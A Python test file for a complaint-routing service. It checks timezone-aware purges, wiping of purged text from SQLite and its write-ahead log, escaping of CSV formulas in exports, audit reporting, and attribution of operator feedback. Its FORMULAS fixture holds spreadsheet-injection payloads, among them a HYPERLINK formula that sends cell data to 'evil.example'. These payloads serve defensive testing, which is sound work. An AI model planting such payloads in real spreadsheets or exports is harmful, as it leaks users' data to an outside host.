"""Data integrity and what leaves the service: a retention purge deletes exactly what it says
(a bound with a UTC offset, on SQLite and PostgreSQL) and leaves no purged text in the SQLite
file; exported CSV cells cannot run as spreadsheet formulas; the audit trail names the key
that made a correction, whatever the body claims."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import sqlalchemy as sa
from typer.testing import CliRunner

from aduan.service.storage import NewRequest, Store, make_engine, upgrade
from tests.figures import record


def _request(text: str) -> NewRequest:
    return NewRequest(
        text=text,
        category="PJU",
        category_score=0.9,
        agency="Dinas Perhubungan",
        agency_score=0.9,
        model_version="v1",
        route="auto",
    )


def _store_at(url: str, moments: dict[str, datetime]) -> dict[str, str]:
    """One stored request per (text, received_at); returns text -> id."""
    upgrade(url)
    store = Store(make_engine(url))
    ids = dict(zip(moments, store.save_requests([_request(t) for t in moments]), strict=True))
    with store.engine.begin() as conn:
        for text, moment in moments.items():
            conn.execute(
                sa.text("UPDATE requests SET received_at = :at WHERE id = :id"),
                {"at": moment, "id": ids[text]},
            )
    store.close()
    return ids


def _texts(url: str) -> set[str]:
    engine = make_engine(url)
    with engine.connect() as conn:
        rows = {r[0] for r in conn.execute(sa.text("SELECT text FROM requests"))}
    engine.dispose()
    return rows


def test_security_purge_with_a_utc_offset_deletes_exactly_what_it_says(database_url):
    from aduan.cli import app

    moments = {
        "PURGED-0955 lampu padam": datetime(2026, 12, 3, 9, 55, tzinfo=UTC),
        "KEPT-1005 lampu padam": datetime(2026, 12, 3, 10, 5, tzinfo=UTC),
        "KEPT-1105 lampu padam": datetime(2026, 12, 3, 11, 5, tzinfo=UTC),
    }
    _store_at(database_url, moments)
    # 17:00 in Jakarta is 10:00 UTC: only the 09:55 UTC request is older
    result = CliRunner().invoke(
        app,
        [
            "requests",
            "purge",
            "--before",
            "2026-12-03T17:00+07:00",
            "--database-url",
            database_url,
        ],
    )
    assert result.exit_code == 0, result.output
    assert "deleted 1 request(s)" in result.output
    assert _texts(database_url) == {"KEPT-1005 lampu padam", "KEPT-1105 lampu padam"}
    record(
        f"security_purge_offset_{database_url.split(':')[0].split('+')[0]}",
        "requests received 09:55, 10:05 and 11:05 UTC; `aduan requests purge --before "
        "2026-12-03T17:00+07:00` (10:00 UTC) deletes the first only",
        {"stored": 3, "deleted": 1, "kept": 2},
        "pytest tests/service/test_security_data.py -k purge_with",
    )


def test_security_purged_text_is_gone_from_the_sqlite_files(tmp_path: Path):
    """The purge runs while the service holds the database open (its write-ahead log then
    still carries the pages the texts were written in)."""
    from aduan.cli import app

    url = f"sqlite:///{tmp_path / 'aduan.db'}"
    marker = "RAHASIA-PURGE-Budi-Santoso-08123456789"
    upgrade(url)
    service = Store(make_engine(url))  # the running service's connection
    service.save_requests([_request(f"{marker} lampu padam"), _request("sampah menumpuk baru")])
    with service.engine.begin() as conn:
        conn.execute(
            sa.text("UPDATE requests SET received_at = :at WHERE text LIKE 'RAHASIA%'"),
            {"at": datetime(2020, 1, 1, tzinfo=UTC)},
        )
    files = [tmp_path / "aduan.db", tmp_path / "aduan.db-wal"]
    assert any(marker.encode() in p.read_bytes() for p in files if p.exists())
    result = CliRunner().invoke(
        app, ["requests", "purge", "--before", "2025-01-01", "--database-url", url]
    )
    assert result.exit_code == 0, result.output
    assert "deleted 1 request(s)" in result.output
    found = [p.name for p in files if p.exists() and marker.encode() in p.read_bytes()]
    assert found == []
    assert service.counts()["requests"] == 1
    service.close()
    record(
        "security_purge_wipes_sqlite",
        "a purged request's text searched for in the SQLite database and its write-ahead log "
        "after `aduan requests purge` (secure_delete, WAL checkpointed and truncated)",
        {"files searched": len(files), "files still holding the text": len(found)},
        "pytest tests/service/test_security_data.py -k gone_from",
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2, "klik")',
    "+62 812 lampu padam",
    "-1+1 sampah menumpuk",
    "@SUM(1+1) jalan rusak",
    "\t=1+1 bansos",
    "\r=1+1 parkir liar",
]


def _cells(path: Path) -> list[str]:
    import csv

    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_security_feedback_export_csv_holds_no_live_formula(database_url, tmp_path):
    from aduan.cli import app

    upgrade(database_url)
    store = Store(make_engine(database_url))
    ids = store.save_requests([_request(text) for text in FORMULAS])
    for rid in ids:
        store.add_feedback(rid, category="PJU", agency="Dinas Perhubungan", operator="siti")
    store.close()
    output = tmp_path / "export.csv"
    result = CliRunner().invoke(
        app, ["feedback", "export", "--output", str(output), "--database-url", database_url]
    )
    assert result.exit_code == 0, result.output
    cells = _cells(output)
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == []
    assert {"'" + text for text in FORMULAS} <= set(cells)  # guarded, nothing else changed
    record(
        f"security_csv_formulas_{database_url.split(':')[0].split('+')[0]}",
        "complaint texts starting with = + - @ tab or CR exported by `aduan feedback export` "
        "to CSV: each cell starts with an apostrophe (a spreadsheet shows it as text)",
        {"texts": len(FORMULAS), "live formula cells": len(live)},
        "pytest tests/service/test_security_data.py -k formula",
    )


def test_security_batch_csv_output_holds_no_live_formula(tiny_model, tmp_path):
    import pandas as pd

    from aduan.cli import app

    source = tmp_path / "in.csv"
    pd.DataFrame({"id": FORMULAS, "text": ["lampu PJU padam gelap"] * len(FORMULAS)}).to_csv(
        source, index=False
    )
    output = tmp_path / "out.csv"
    result = CliRunner().invoke(
        app, ["batch", "--model", str(tiny_model), "--input", str(source), "--output", str(output)]
    )
    assert result.exit_code == 0, result.output
    cells = _cells(output)
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert "'" + FORMULAS[0] in cells


def test_security_audit_with_nothing_looked_up_says_not_audited(tmp_path):
    """pip-audit's report when the advisory service answered for no package: the row must
    not read "vulnerabilities: 0"."""
    import json
    import os
    import subprocess
    import sys

    root = Path(__file__).resolve().parents[2]
    skipped = "Dependency not found on PyPI and could not be audited: x"
    report = {
        "dependencies": [
            {"name": f"pkg{i}", "version": "1.0", "skip_reason": skipped} for i in range(5)
        ]
    }
    (tmp_path / "report.json").write_text(json.dumps(report))
    proc = subprocess.run(
        [
            sys.executable,
            str(root / "bench" / "audit.py"),
            "--report",
            str(tmp_path / "report.json"),
        ],
        env={**os.environ, "ADUAN_FIGURES": str(tmp_path / "figures")},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert "NOT AUDITED" in proc.stdout and "no known vulnerability" not in proc.stdout
    row = json.loads((tmp_path / "figures" / "dependency_audit.json").read_text())
    assert row["figures"]["audited"] == 0
    assert row["figures"]["vulnerabilities"] == "not audited"
    strict = subprocess.run(
        [
            sys.executable,
            str(root / "bench" / "audit.py"),
            "--report",
            str(tmp_path / "report.json"),
        ],
        env={**os.environ, "AUDIT_STRICT": "1", "ADUAN_FIGURES": str(tmp_path / "strict")},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert strict.returncode == 2


def test_security_feedback_records_the_keys_name_not_the_body_s(
    make_client, database_url, tmp_path
):
    """The key "op" sends a correction claiming `operator: kepala-dinas`: the request, its
    history, the feedback row and the export all name "op"."""
    from aduan.cli import app

    client = make_client(
        api_keys="op:op-secret", operator_keys="op:op-secret", database_url=database_url
    )
    auth = {"Authorization": "Bearer op-secret"}
    stored = client.post(
        "/v1/classify",
        json={"items": [{"text": "lampu PJU padam gelap"}], "store": True},
        headers=auth,
    ).json()["results"][0]
    rid = stored["request_id"]
    body = {
        "request_id": rid,
        "agency": stored["agency"]["label"],
        "category": "PJU",
        "operator": "kepala-dinas",
    }
    answer = client.post("/v1/feedback", json=body, headers=auth)
    assert answer.status_code == 201, answer.text
    assert answer.json()["operator"] == "op"
    detail = client.get(f"/v1/requests/{rid}", headers=auth).json()
    assert detail["corrected_by"] == "op"
    assert {event["actor"] for event in detail["history"]} == {"op"}
    engine = make_engine(database_url)
    with engine.connect() as conn:
        operators = {r[0] for r in conn.execute(sa.text("SELECT operator FROM feedback"))}
    engine.dispose()
    assert operators == {"op"}
    output = tmp_path / "export.jsonl"
    exported = CliRunner().invoke(
        app, ["feedback", "export", "--output", str(output), "--database-url", database_url]
    )
    assert exported.exit_code == 0, exported.output
    assert '"operator":"op"' in output.read_text() and "kepala-dinas" not in output.read_text()
    record(
        f"security_feedback_names_the_key_{database_url.split(':')[0].split('+')[0]}",
        "the key 'op' posts feedback naming operator 'kepala-dinas': the request, its "
        "history, the feedback row and the export record 'op'",
        {"places checked": 4, "forged names recorded": 0},
        "pytest tests/service/test_security_data.py -k keys_name",
    )
